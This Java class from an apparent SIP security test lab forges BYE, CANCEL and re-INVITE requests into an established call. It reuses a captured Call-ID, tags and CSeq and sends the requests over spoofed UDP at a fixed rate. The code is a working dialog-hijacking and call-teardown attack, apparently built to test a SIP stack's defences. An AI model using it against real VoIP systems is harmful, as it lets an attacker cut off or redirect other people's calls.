package org.ringfence.lab.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;
import org.ringfence.lab.peer.PeerFailure;
import org.ringfence.sip.message.SipResponse;

/**
 * Somebody who has read a call's Call-ID and tags, and sends BYE, CANCEL and re-INVITE into it from
 * an address of his own.
 */
final class DialogForger implements AutoCloseable {
  private static final String[] METHODS = {"BYE", "CANCEL", "INVITE"};
  private static final byte[] OWN = {127, 98, 0, 1};

  private final SpoofedUdp udp;
  private final InetSocketAddress target;
  private final SipResponse answer;
  private final int ratePerSecond;
  private final AtomicLong sent = new AtomicLong();
  private final Thread thread;
  private volatile boolean closed;

  /**
   * Begins at once.
   *
   * @param answer the 200 of the call
   */
  DialogForger(InetSocketAddress target, SipResponse answer, int ratePerSecond) {
    this.target = target;
    this.answer = answer;
    this.ratePerSecond = ratePerSecond;
    try {
      udp = new SpoofedUdp();
    } catch (IOException e) {
      throw new PeerFailure("nothing can be forged here", e);
    }
    thread = Thread.ofPlatform().daemon().name("dialog forger").start(this::run);
  }

  long sent() {
    return sent.get();
  }

  private void run() {
    try {
      InetSocketAddress own = new InetSocketAddress(InetAddress.getByAddress(OWN), 5_060);
      for (int i = 0; !closed; i++) {
        udp.send(own, target, request(METHODS[i % METHODS.length], i));
        sent.incrementAndGet();
        LockSupport.parkNanos(1_000_000_000L / ratePerSecond);
      }
    } catch (IOException e) {
      throw new PeerFailure("the forger cannot send", e);
    }
  }

  private byte[] request(String method, int number) {
    // A CANCEL names the INVITE it means by its branch and number, which he has read too.
    boolean cancels = method.equals("CANCEL");
    String branch = cancels ? answer.topVia().branch() : "z9hG4bKforged" + number;
    long cseq = cancels ? answer.cseq().number() : answer.cseq().number() + 100 + number;
    String body =
        method.equals("INVITE")
            ? "v=0\no=- 1 2 IN IP4 127.98.0.1\ns=-\nc=IN IP4 127.98.0.1\nt=0 0\n"
                + "m=audio 9000 RTP/AVP 0\na=rtpmap:0 PCMU/8000\n"
            : "";
    body = body.replace("\n", "\r\n");
    String head =
        """
        %1$s %2$s SIP/2.0
        Via: SIP/2.0/UDP 127.98.0.1:5060;branch=%3$s;rport
        Max-Forwards: 70
        From: %4$s
        To: %5$s
        Call-ID: %6$s
        CSeq: %7$d %1$s
        Contact: <sip:me@127.98.0.1:5060>
        %8$sContent-Length: %9$d

        """
            .formatted(
                method,
                answer.contacts().getFirst().uri(),
                branch,
                answer.from(),
                answer.to(),
                answer.callId(),
                cseq,
                body.isEmpty() ? "" : "Content-Type: application/sdp\n",
                body.length());
    return (head.replace("\n", "\r\n") + body).getBytes(StandardCharsets.US_ASCII);
  }

  @Override
  public void close() {
    closed = true;
    try {
      thread.join();
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
    udp.close();
  }
}
